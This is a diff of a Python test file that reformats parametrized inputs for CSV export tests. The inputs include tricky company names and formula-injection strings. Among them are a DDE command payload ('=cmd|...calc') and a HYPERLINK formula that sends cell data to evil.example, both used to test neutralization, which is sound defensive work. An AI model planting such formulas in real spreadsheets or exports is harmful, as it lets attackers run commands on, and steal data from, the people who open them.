@@ -39,9 +39,9 @@ def test_the_first_line_names_the_columns():
 @pytest.mark.parametrize(
     "name",
     [
-        'O\'Neill "Best" Foods', "Smith, Jones, & Co", "two\nlines", "two\r\nlines", "a\rreturn", '"', '""', ",",
-        "Müller & Söhne", "กรุงเทพ โลจิสติกส์", "東京電機商会", "🚀 Rocket", "<!channel>", "שלום", "", " ", "a;b", "a\tb",
-        "NULL", "5-a-day", "a=b", "1+1",
+        'O\'Neill "Best" Foods', "Smith, Jones, & Co", "two\nlines", "two\r\nlines", "a\rreturn", '"', '""',
+        "Müller & Söhne", "กรุงเทพ โลจิสติกส์", "東京電機商会", "🚀 Rocket", "<!channel>", "שלום", "",
+        ",", " ", "a;b", "a\tb", "NULL", "5-a-day", "a=b", "1+1",
     ],
 )  # fmt: skip
 def test_any_name_comes_back_as_it_is(name: str):
@@ -52,7 +52,8 @@ def test_any_name_comes_back_as_it_is(name: str):
 @pytest.mark.parametrize(
     "name",
     [
-        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠A1",
+        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "＝1+1", "＋1",
+        "－1", "＠A1",
         "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example?x="&A1,"see")', "\tx", "-", '=",\n"',
     ],
 )  # fmt: skip
